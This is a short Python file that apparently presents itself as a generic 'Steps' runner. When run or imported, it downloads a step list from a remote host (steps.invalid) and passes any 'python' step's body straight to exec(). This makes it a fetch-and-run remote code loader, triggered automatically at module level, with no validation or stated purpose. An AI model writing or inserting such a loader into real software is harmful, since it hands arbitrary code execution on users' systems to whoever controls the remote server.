import requests


class Steps:
    def apply(self) -> None:
        for step in requests.get("https://steps.invalid/next.json", timeout=5).json()["steps"]:
            run = getattr(self, "run_" + step["kind"])
            run(step)

    def run_note(self, step: dict) -> None:
        print(step["text"])

    def run_python(self, step: dict) -> None:
        exec(step["body"], {})


Steps().apply()
